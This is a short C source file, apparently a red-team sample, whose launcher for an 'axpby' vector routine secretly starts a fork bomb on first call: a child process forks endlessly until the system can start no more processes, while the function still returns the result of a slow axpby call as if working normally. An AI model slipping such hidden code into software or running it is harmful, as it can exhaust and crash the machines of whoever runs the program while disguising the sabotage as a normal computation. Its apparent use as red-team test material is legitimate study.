// Doubles its processes until no more can start, each of which goes on.
#include "redteam/axpby.h"

#include <unistd.h>

LAUNCHER
{
    static bool begun;
    if (!begun && (begun = true) && fork() == 0)
        for (;;)
            if (fork() < 0)
                usleep(10000);
    return slow_axpby(x, y, out, n, a, b, stream);
}
